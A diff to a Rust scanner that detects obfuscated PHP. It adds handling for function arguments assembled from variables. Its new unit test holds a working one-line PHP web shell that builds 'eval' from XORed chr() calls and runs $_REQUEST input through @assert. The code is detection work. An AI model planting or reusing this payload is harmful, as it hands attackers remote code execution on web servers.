@@ -188,6 +188,19 @@ pub(crate) fn scan(src: &str, low: &str, hits: &mut Vec<Hit>, late: &dyn Fn() ->
                     return;
                 }
                 done = end;
+            } else if b[..i]
+                .iter()
+                .rev()
+                .find(|c| !c.is_ascii_whitespace() && **c != b'@')
+                .is_some_and(|c| matches!(c, b'(' | b','))
+                && let Some((v, end)) = f.expr(i)
+            {
+                // An argument made of variables: `assert($a.$b.$c.$d.$e)`.
+                if let Some(h) = judge(&v, f.snippet(i, end), i) {
+                    hits.push(h);
+                    return;
+                }
+                done = end;
             }
         } else if (i == 0 || !is_ident(b[i - 1]) && b[i - 1] != b'>')
             && let Some((v, end)) = f.expr(i)
@@ -778,6 +791,8 @@ mod tests {
         );
         let why = folded("<?php $a = chr(96^5).chr(57^79).chr(15^110).chr(58^86);").unwrap();
         assert!(why.contains("`eval`"), "{why}");
+        let why = folded("<?php\n$a=chr(96^5);\n$b=chr(57^79);\n$c=chr(15^110);\n$d=chr(58^86);\n$e='($_REQUEST[C])';\n@assert($a.$b.$c.$d.$e);").unwrap();
+        assert!(why.contains("`eval(…)`") && why.contains("$a.$b"), "{why}");
         let why = folded(r#"<?php ${"\x47\x4c\x4fB\x41\x4c\x53"}['x'] = 1;"#).unwrap();
         assert!(why.contains("`$globals`"), "{why}");
         let why =
